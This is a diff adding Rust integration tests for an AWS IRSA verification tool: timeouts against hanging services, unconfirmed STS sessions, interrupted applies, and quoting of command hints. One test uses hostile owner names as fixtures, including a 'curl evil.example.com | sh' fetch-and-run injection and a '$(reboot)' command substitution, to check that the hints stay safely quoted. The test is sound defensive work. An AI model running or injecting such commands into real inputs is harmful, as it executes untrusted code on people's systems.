@@ -1,13 +1,16 @@
 //! Answers that no sane service gives: `irsa verify` neither hangs, nor prints junk, nor calls a chain broken for them.
 
-use super::Scene;
+use super::{Scene, owner};
 use crate::ownership::role;
+use crate::support::moments::{PATIENCE, pause};
+use crate::support::world::FIRST;
 use base64::Engine;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 use irsa_sandbox::aws;
 use irsa_sandbox::gate::Stage;
 use irsa_sandbox::kubernetes::{Fault, Match, Resource};
 use serde_json::{Value, json};
+use std::time::{Duration, Instant};
 
 fn token_answer(token: &str) -> Fault {
     let page = json!({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": []},
@@ -92,6 +95,15 @@ fn pod_that_cannot_be_parsed_is_named_and_not_dropped() {
     tamper(&|pod| pod["spec"] = json!({"serviceAccountName": "app", "containers": 7}));
     scene.bare_pod("db-1");
     scene.says("pods", &["1 pod has no `AWS_ROLE_ARN`"]);
+}
+
+#[test]
+fn owner_of_a_pod_cannot_write_commands_into_a_hint() {
+    let scene = Scene::new();
+    scene.pod("x", &owner("Deployment", "web; curl evil.example.com | sh"), &json!({}), &[], "sts.amazonaws.com");
+    scene.says("pods", &["rollout restart 'deployment/web; curl evil.example.com | sh'"]);
+    scene.pod("y", &owner("$(reboot)", "it's"), &json!({}), &[], "sts.amazonaws.com");
+    scene.says("pods", &["restart '$(reboot)/it'\\''s' in namespace"]);
 }
 
 #[test]
@@ -217,4 +229,89 @@ fn progress_counts_the_service_accounts() {
     let run = scene.verify(0, &[]);
     assert!(run.stderr.contains("Tried 1 ServiceAccount.\n"), "{run}");
     assert!(!scene.verify(0, &["--no-progress"]).stderr.contains("Tried"), "{run}");
+}
+
+#[test]
+fn services_that_hang_or_never_end_are_not_waited_for() {
+    let mut scene = Scene::new();
+    scene.good_pod("db-0");
+    scene.bench.set("IRSA_TEST_SPEED", "4");
+    let begin = Instant::now();
+    let cluster = scene.world.cluster("main");
+    scene.world.fault(Stage::Before, aws::Match::on("sts", "AssumeRoleWithWebIdentity"), aws::Fault::Hang, None);
+    for (verb, resource) in [("list", "pods"), ("list", "mutatingwebhookconfigurations")] {
+        cluster.gate().fault(Stage::Before, Match::on(verb, resource), Fault::Hang, None);
+    }
+    let links = |scene: &Scene| {
+        let run = scene.verify(4, &["--format", "json", "--timeout", "8s"]);
+        let links = run.json()["service-accounts"][0]["links"].as_array().expect("links").clone();
+        let status = |name: &str| {
+            let link = links.iter().find(|link| link["link"] == name).expect("the link");
+            link["status"].as_str().expect("a status").to_owned()
+        };
+        ["token", "webhook", "assume", "pods"].map(status)
+    };
+    assert_eq!(links(&scene), ["ok", "unknown", "unknown", "unknown"]);
+    assert!(begin.elapsed() < Duration::from_secs(30), "{:?}", begin.elapsed());
+    scene.world.allow_all();
+    cluster.gate().heal();
+    let endless = format!("{{\"metadata\":{{}},\"items\":[{}", "{},".repeat(12 << 20));
+    cluster.gate().fault(Stage::Before, Match::on("list", "pods"), Fault::Page { status: 200, body: endless }, None);
+    let (status, text) = scene.link(4, "pods", &[]);
+    assert_eq!(status, "unknown");
+    assert!(text.contains("MiB"), "{text}");
+}
+
+#[test]
+fn session_that_sts_does_not_confirm_proves_nothing() {
+    let scene = Scene::new();
+    // the first call is that of irsa's own credentials
+    let gate = |fault: aws::Fault| {
+        let pass = aws::Fault::Delay(Duration::ZERO);
+        scene.world.fault(Stage::Before, aws::Match::on("sts", "GetCallerIdentity"), pass, Some(1));
+        scene.world.fault(Stage::Before, aws::Match::on("sts", "GetCallerIdentity"), fault, None);
+    };
+    gate(aws::Fault::Deny);
+    let (status, text) = scene.link(4, "assume", &[]);
+    assert!(status == "unknown" && text.contains("sts:GetCallerIdentity"), "{status} {text}");
+    scene.world.allow_all();
+    let other = "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult>\
+         <Arn>arn:aws:sts::111122223333:assumed-role/other/x</Arn><UserId>x</UserId><Account>111122223333</Account>\
+         </GetCallerIdentityResult></GetCallerIdentityResponse>";
+    gate(aws::Fault::Page { status: 200, body: other.to_owned() });
+    scene.says("assume", &["STS gave a session of `arn:aws:sts::111122223333:assumed-role/other/x`, not of"]);
+}
+
+#[test]
+fn apply_that_is_interrupted_while_it_verifies_says_that_it_applied() {
+    let scene = Scene::bare();
+    scene.declare(&role("app"));
+    scene.world.fault(Stage::Before, aws::Match::on("sts", "AssumeRoleWithWebIdentity"), aws::Fault::Deny, None);
+    let running = scene.bench.start(&["apply", "--auto-approve", "--verify"]);
+    let begin = Instant::now();
+    while !scene.world.actions().contains(&"AssumeRoleWithWebIdentity".to_owned()) {
+        assert!(begin.elapsed() < PATIENCE, "STS was not asked");
+        pause();
+    }
+    running.signal("INT");
+    let run = running.ends();
+    assert_eq!(run.code, 130, "{run}");
+    run.says("interrupted; the plan was applied, and what it touched was not verified");
+    assert!(!run.stderr.contains("nothing was written") && scene.world.has_role(FIRST, "app"), "{run}");
+}
+
+#[test]
+fn apply_with_verify_prints_one_document_and_only_what_it_touched() {
+    let scene = Scene::bare();
+    scene.declare(&role("app"));
+    let run = scene.bench.ends(0, &["apply", "--auto-approve", "--verify", "--format", "json"]);
+    assert_eq!(run.json()["succeeded"], true);
+    assert!(run.stderr.contains("Verified 1 ServiceAccount: 1 ok"), "{run}");
+    // nothing was touched, and nothing is broken
+    scene.annotate("eks.amazonaws.com/token-expiration", Some("1h"));
+    scene.declare(&(role("app") + &role("two")));
+    let run = scene.bench.ends(0, &["apply", "--auto-approve", "--verify"]);
+    run.says("Verified 1 ServiceAccount: 1 ok").says("main apps/two");
+    let run = scene.bench.ends(0, &["apply", "--auto-approve", "--verify"]);
+    assert!(!run.stdout.contains("Verified"), "{run}");
 }
